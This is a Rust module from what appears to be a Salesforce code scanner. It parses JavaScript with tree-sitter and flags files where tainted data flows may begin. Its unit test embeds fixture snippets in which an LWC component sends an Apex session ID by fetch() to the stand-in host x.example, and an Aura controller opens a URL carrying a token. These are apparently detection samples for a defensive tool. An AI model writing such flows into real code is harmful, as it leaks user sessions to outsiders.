//! JavaScript through tree-sitter (`tree-sitter-javascript`): Aura controllers and helpers, LWC
//! modules, JavaScript static resources and Visualforce inline scripts. One parser per thread.

use std::cell::RefCell;

use tree_sitter::{Parser, Tree};

pub(crate) use crate::syntax::tree::JAVASCRIPT as LANGUAGE;

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// Parses JavaScript; syntax errors become ERROR nodes (LWC decorators and class fields parse).
pub(crate) fn parse(text: &str) -> Option<Tree> {
    crate::syntax::tree::parse_with(&PARSER, &LANGUAGE, text)
}

/// [`parse`], saying why there is no tree (a parse past the time budget).
pub(crate) fn parse_checked(text: &str) -> Result<Tree, crate::syntax::tree::ParseFailure> {
    crate::syntax::tree::parse_checked(&PARSER, &LANGUAGE, text)
}

/// Whether a data flow through scripts may start in this file, so that its tree must outlive
/// the per-file pass: it imports Apex methods, reads an Aura action's result, or belongs to an
/// Aura bundle (a helper gets its tainted arguments from the controller). The interpreter
/// (`dataflow::js`) walks only files this accepts.
pub(crate) fn may_start_script_flow(rel: &str, text: &str) -> bool {
    rel.contains("/aura/") || text.contains("@salesforce/apex/") || text.contains("getReturnValue")
}

/// Byte ranges of every comment, for suppression directives.
pub(crate) fn comments(tree: &Tree) -> Vec<std::ops::Range<usize>> {
    let mut out = Vec::new();
    crate::syntax::tree::preorder(tree.root_node(), |node| {
        if node.kind() == "comment" {
            out.push(node.byte_range());
        }
        true
    });
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_lwc_and_aura() {
        let lwc = "import { LightningElement, wire } from 'lwc';\nimport getSid from '@salesforce/apex/OrgSession.sessionForLwc';\nexport default class X extends LightningElement {\n  @wire(getSid) sid;\n  async connectedCallback() { const s = await getSid(); fetch(`https://x.example/?s=${s}`); }\n}\n";
        let tree = parse(lwc).expect("tree");
        assert!(!tree.root_node().has_error(), "{}", tree.root_node().to_sexp());
        let aura = "({\n  init: function (component, event, helper) {\n    var a = component.get('c.token');\n    a.setCallback(this, function (r) { window.open('https://x.example/?s=' + r.getReturnValue()); });\n    $A.enqueueAction(a);\n  }\n})\n";
        let tree = parse(aura).expect("tree");
        assert!(!tree.root_node().has_error());
    }
}
